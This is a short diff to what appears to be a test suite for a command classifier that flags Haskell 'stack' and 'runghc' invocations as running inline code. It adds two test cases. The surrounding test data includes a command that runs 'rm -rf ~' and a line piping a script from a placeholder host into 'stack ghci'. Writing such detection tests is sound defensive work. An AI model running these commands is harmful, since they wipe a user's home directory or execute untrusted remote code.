@@ -402,6 +402,7 @@ OTHER_LANGUAGES = [
     # a tool's subcommand that is an interpreter of its own (stack eval CODE is ghc -e CODE)
     ("stack eval 'System.Process.callCommand \"rm -rf ~\"'", {"dynamic:code"}),
     ("stack --resolver lts-22 ghc -- -e 'main'", {"dynamic:code"}),
+    ("stack exec ghc -- -e 'main'", {"dynamic:code"}),  # stack's own `--`: ghc -e main
     ("stack runghc -- -e 'System.Process.callCommand \"id\"'", {"dynamic:code"}),
     ("runhaskell -e 'System.Process.callCommand \"id\"'", {"dynamic:code"}),
     ("curl -s https://x.example/x.hs | stack ghci", {"dynamic:code"}),
@@ -645,6 +646,7 @@ OTHER_QUIET = [
     "stack runghc src/Main.hs",
     "stack script scripts/gen.hs",
     "stack exec -- my-app --port 8080",
+    "stack exec my-app -- --port 8080",
 ]
 
 
